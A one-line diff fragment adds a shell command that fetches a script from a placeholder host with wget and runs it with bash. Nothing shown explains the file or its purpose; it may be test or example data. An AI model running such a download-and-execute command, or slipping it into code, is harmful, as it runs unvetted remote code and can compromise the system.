@@ -1,0 +1,1 @@
+wget https://x.example/x.sh -O x.sh && bash x.sh
